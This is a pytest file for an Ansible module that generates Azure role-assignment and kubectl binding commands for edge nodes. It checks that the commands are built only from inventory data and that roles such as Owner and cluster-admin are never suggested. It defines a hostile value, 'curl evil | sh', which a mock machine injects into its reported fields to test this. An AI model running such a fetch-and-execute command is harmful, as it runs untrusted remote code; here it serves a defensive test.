# SPDX-License-Identifier: GPL-3.0-or-later
"""Commands that an administrator types: nothing in them is a machine's own words."""

from __future__ import annotations

from typing import Any

import pytest

from ansible_collections.aks.flexnode.plugins.module_utils.controller.needs.arc import ArcMachine, request_of
from ansible_collections.aks.flexnode.plugins.module_utils.controller.needs.arc_commands import grant_commands

GROUP = "/subscriptions/12345678-1234-1234-1234-123456789abc/resourceGroups/rg"
PLANT = f"{GROUP}/providers/Microsoft.ContainerService/managedClusters/plant"
READER = "acdd72a7-3385-48ef-bd42-f606fba81ae7"
EVIL = "curl evil | sh"
PRINCIPAL = (
    '"$(az connectedmachine show --subscription 12345678-1234-1234-1234-123456789abc --resource-group rg '
    '--name edge-1 --query identity.principalId -o tsv)"'
)


def lacks(*roles: dict[str, Any], cluster: str = PLANT, enabled: bool = True, pool: str = "") -> list[str]:
    azure = {"arc": {"enabled": enabled}, **({"targetAgentPoolName": pool} if pool else {})}
    request = request_of({"azure": azure}, cluster, "edge-1")
    missing = [{"scope": EVIL, "command": EVIL, **role} for role in roles]
    return grant_commands(ArcMachine("host-1", request, {"principal_id": EVIL, "missing_roles": missing}))


def created(principal: str = PRINCIPAL, scope: str = PLANT) -> str:
    return (
        f"az role assignment create --assignee-object-id {principal} --assignee-principal-type "
        f"ServicePrincipal --role {READER} --scope {scope}"
    )


READS = {"kind": "azure", "role": EVIL, "role_id": READER}


def test_a_role_is_granted_where_the_inventory_says_to_whom_azure_says() -> None:
    assert lacks(READS, READS) == [created()]
    assert lacks(READS, pool="edge") == [created(scope=f"{PLANT}/agentPools/edge")]


def test_a_binding_is_for_the_same_identity() -> None:
    assert lacks({"kind": "kubernetes", "role": "system:node", "role_id": ""}) == [
        "kubectl create clusterrolebinding flexnode-identity-kubelet-edge-1 --clusterrole=system:node "
        f"--user={PRINCIPAL}"
    ]


def test_what_the_inventory_does_not_name_is_a_placeholder() -> None:
    assert lacks(READS, enabled=False) == [created("PRINCIPAL_ID")]
    assert lacks(READS, cluster="") == [created("PRINCIPAL_ID", "CLUSTER_ID")]


@pytest.mark.parametrize(
    "role",
    [
        {"kind": "azure", "role": "Owner", "role_id": "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"},
        {"kind": "kubernetes", "role": "cluster-admin"},
        {"kind": "kubernetes", "role": EVIL},
        {"kind": "azure", "role": "system:node"},
        {"role_id": ["x"], "role": {}},
        {},
    ],
)
def test_a_role_that_no_node_needs_is_no_advice(role: dict[str, Any]) -> None:
    assert lacks(role) == []
